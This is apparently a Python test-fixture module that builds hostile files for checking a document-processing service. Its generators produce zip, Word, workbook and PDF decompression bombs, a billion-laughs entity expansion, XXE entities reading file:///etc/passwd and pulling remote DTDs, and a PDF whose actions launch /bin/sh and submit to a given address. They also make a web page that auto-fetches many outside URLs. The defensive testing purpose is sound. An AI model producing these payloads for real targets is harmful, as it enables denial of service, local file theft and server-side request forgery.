"""Files that are broken, swollen, disguised or up to something, each made when it is asked for."""

from __future__ import annotations

import random
import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

MEGABYTE = 1024 * 1024
SENTENCE = "The force should make sure that it answers each call within the time it has promised."

# --- PDF, written by hand ---


def pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, places = BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, each in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, each))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, trailer, start)
    )
    return out.getvalue()


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), dictionary, data)


def pdf_of(contents: list[bytes], *, catalogue: bytes = b"", trailer: bytes = b"") -> bytes:
    """A PDF with one page for each stream of contents, all in one face."""
    pages = [4 + 2 * number for number in range(len(contents))]
    kids = b" ".join(b"%d 0 R" % page for page in pages)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (len(pages), kids),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for number, content in zip(pages, contents, strict=True):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F 3 0 R >> >> /Contents %d 0 R >>" % (number + 1)
        )
        objects.append(content)
    return pdf(objects, trailer=trailer)


def page(*lines: str) -> bytes:
    """The contents of a page: lines from its top."""
    shown = " ".join(f"({line}) Tj 0 -16 Td" for line in lines)
    return stream(f"BT /F 11 Tf 60 780 Td {shown} ET".encode("latin-1"))


def pdf_pages(number: int) -> bytes:
    """A plain report of so many pages."""
    return pdf_of([page(f"Page {n} of the report", *[SENTENCE] * 4) for n in range(number)])


def encrypted_pdf() -> bytes:
    """A PDF that a password locks, which nobody knows."""
    lock = pdf([b"<< >>"])  # the fingerprint of no password at all
    secret = b"%064x" % int.from_bytes(zlib.compress(lock)[:32].ljust(32, b"7"), "big")
    return pdf_of(
        [page(SENTENCE)],
        trailer=(
            b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <%s> /U <%s> >> "
            b"/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]"
            % (secret, secret)
        ),
    )


def scanned_pdf() -> bytes:
    """Pages that are pictures."""
    picture = b"q 595 0 0 842 0 0 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \x00\x7f\x7f\xff EI Q"
    return pdf_of([stream(picture)] * 8)


def pdf_with_actions(address: str) -> bytes:
    """A PDF that would run a script, start a program and open an address."""
    actions = (
        b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\);) /Next << /S /Launch "
        b"/F (/bin/sh) /Next << /S /URI /URI (%s) /Next << /S /SubmitForm /F << /FS /URL /F (%s) >>"
        b" >> >> >> >> /AA << /WC << /S /URI /URI (%s) >> >>" % ((address.encode(),) * 4)
    )
    return pdf_of([page(SENTENCE)], catalogue=actions)


def swollen_pdf() -> bytes:
    """A page whose contents are two gigabytes, packed twice."""
    twice = zlib.compress(_gigabytes(2, b" "), 9)
    return pdf_of([stream(twice, b"/Filter [/FlateDecode /FlateDecode]")])


def winding_pdf() -> bytes:
    """Pages that are their own grandparents, and contents that hold themselves."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 2147483647 /Kids [2 0 R 3 0 R] /Parent 3 0 R >>",
            b"<< /Type /Pages /Count 9 /Kids [2 0 R 4 0 R] /Parent 2 0 R >>",
            b"<< /Type /Page /Parent 3 0 R /Contents [4 0 R 4 0 R] /Resources 4 0 R >>",
        ]
    )


# --- Packed files ---


def _gigabytes(number: int, letter: bytes) -> bytes:
    """A deflated stream (with the head of zlib) of so many gigabytes of one letter."""
    packer = zlib.compressobj(9)
    packer.compress(b"")
    begun = packer.compress(letter * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(letter * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return begun + again * (1024 * number - 1) + packer.flush()


def zip_of(parts: dict[str, bytes]) -> bytes:
    """A packed file."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return out.getvalue()


def swollen_zip(parts: dict[str, bytes], name: str, *, claimed: int) -> bytes:
    """A packed file of which one part is three gigabytes, whatever it claims."""
    packed = zip_of(parts)
    data, raw = BytesIO(), _gigabytes(3, b" ")[2:]
    title, end = name.encode(), packed.rindex(b"PK\x05\x06")
    (entries, size, start) = struct.unpack("<HII", packed[end + 10 : end + 20])
    fields = struct.pack("<HHHHHIIIH", 20, 0, 8, 0, 0, 0, len(raw), claimed, len(title))
    data.write(packed[:start])
    place = data.tell()
    data.write(b"PK\x03\x04" + fields + b"\0\0" + title + raw)
    directory = data.tell()
    central = packed[start : start + size]
    central += b"PK\x01\x02\x14\0" + fields + struct.pack("<HHHHII", 0, 0, 0, 0, 0, place) + title
    data.write(central)
    data.write(
        b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, entries + 1, entries + 1, len(central), directory, 0)
    )
    return data.getvalue()


TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships">{}</Relationships>'
)
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MAIN = f'<Relationship Id="r1" Type="{KIND}officeDocument" Target="word/document.xml"/>'
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DRAWN = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
    'wordprocessingDrawing"><wp:docPr id="1" name="1" descr=""/><a:graphic xmlns:a="http://schemas.'
    'openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic xmlns:pic="http://schemas.'
    'openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="{}" r:embed="{}"/>'
    "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


def docx(body: str, *, before: str = "", relations: str = "") -> dict[str, bytes]:
    """The parts of a Word document."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document xmlns:w="{WORDS}" '
        f'xmlns:r="{KIND.rstrip("/")}"><w:body>{body}</w:body></w:document>'
    )
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELATIONS.format(MAIN),
        "word/_rels/document.xml.rels": RELATIONS.format(relations),
        "word/document.xml": document,
    }
    return {name: text.encode() for name, text in parts.items()}


def paragraph(words: str) -> str:
    """One paragraph of a Word document."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def swollen_docx(*, claimed: int) -> bytes:
    """A Word document whose words are three gigabytes."""
    parts = docx("")
    del parts["word/document.xml"]
    return swollen_zip(parts, "word/document.xml", claimed=claimed)


def swollen_docx_beside() -> bytes:
    """A Word document with a part that is not needed, of three gigabytes."""
    parts = docx(paragraph(SENTENCE))
    return swollen_zip(parts, "word/comments.xml", claimed=3 * 1024 * MEGABYTE)


def swollen_workbook() -> bytes:
    """A workbook whose one sheet is three gigabytes."""
    return swollen_zip(
        {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"},
        "xl/worksheets/sheet1.xml",
        claimed=3 * 1024 * MEGABYTE,
    )


def laughing_docx() -> bytes:
    """A Word document of entities that hold ten of each other, nine deep."""
    entities = "".join(f'<!ENTITY x{n + 1} "{f"&x{n};" * 10}">' for n in range(9))
    before = f'<!DOCTYPE x [<!ENTITY x0 "{SENTENCE}">{entities}]>'
    return zip_of(docx(paragraph("&x9;"), before=before))


def curious_docx(address: str) -> bytes:
    """A Word document that asks for files of this machine and for an address elsewhere."""
    before = (
        f'<!DOCTYPE x SYSTEM "{address}/x.dtd" [<!ENTITY secret SYSTEM "file:///etc/passwd">'
        f'<!ENTITY % more SYSTEM "{address}/more"> %more;]>'
    )
    return zip_of(docx(paragraph("&secret;") + paragraph(SENTENCE), before=before))


def linked_docx(address: str) -> bytes:
    """A Word document with pictures, a template and a link that stand elsewhere."""
    relations = "".join(
        f'<Relationship Id="{name}" Type="{KIND}{kind}" Target="{target}" TargetMode="External"/>'
        for name, kind, target in (
            ("p1", "image", f"{address}/picture.png"),
            ("p2", "image", "file:///etc/passwd"),
            ("p3", "attachedTemplate", f"{address}/template.dotm"),
            ("p4", "hyperlink", f"{address}/link"),
        )
    )
    pictures = DRAWN.format("p1", "p1") + DRAWN.format("p2", "p2")
    link = f'<w:hyperlink r:id="p4">{paragraph("A link")}</w:hyperlink>'
    return zip_of(docx(paragraph(SENTENCE) + pictures + link, relations=relations))


# --- Web pages ---


def curious_page(address: str) -> bytes:
    """A web page that asks for all that a browser would fetch, run or open."""
    return f"""<!DOCTYPE html><html manifest="{address}/manifest"><head>
<base href="{address}/"><meta http-equiv="refresh" content="0; url={address}/refresh">
<meta charset="utf-8"><title>An inspection of Essex Police</title>
<link rel="stylesheet" href="style.css"><link rel="preload" href="{address}/preload" as="image">
<link rel="icon" href="file:///etc/passwd"><style>@import url("{address}/import.css");
body {{ background: url({address}/background.png) }}</style>
<script src="{address}/script.js"></script>
<script>fetch("{address}/fetched"); document.write("<h2>Area for improvement</h2>")</script></head>
<body onload="location='{address}/onload'"><h1>An inspection of Essex Police</h1>
<img src="{address}/picture.png" alt=""><img src="file:///etc/passwd" alt="">
<iframe src="{address}/frame"></iframe><iframe src="file:///etc/passwd"></iframe>
<object data="{address}/object"></object><embed src="{address}/embedded">
<video src="{address}/video" autoplay></video><svg><image href="{address}/svg"/></svg>
<form action="{address}/form"><input autofocus onfocus="this.form.submit()"></form>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>
<p>{SENTENCE}</p></body></html>""".encode()


def deep_page() -> bytes:
    """A web page of a million elements, each in the other."""
    return b"<!DOCTYPE html><html><body>" + b"<div>" * 1_000_000 + SENTENCE.encode()


# --- Noise ---


def noise(megabytes: int, start: bytes = b"") -> bytes:
    """Bytes that mean nothing, after a start that promises something."""
    return start + random.Random(8).randbytes(megabytes * MEGABYTE - len(start))  # noqa: S311


def noisy_text(megabytes: int, start: str = "", end: str = "") -> bytes:
    """Words that mean nothing."""
    sentence = f"<p>{SENTENCE}</p>\n" if start else f"{SENTENCE}\n"
    return (start + sentence * (megabytes * MEGABYTE // len(sentence) - 4) + end).encode()
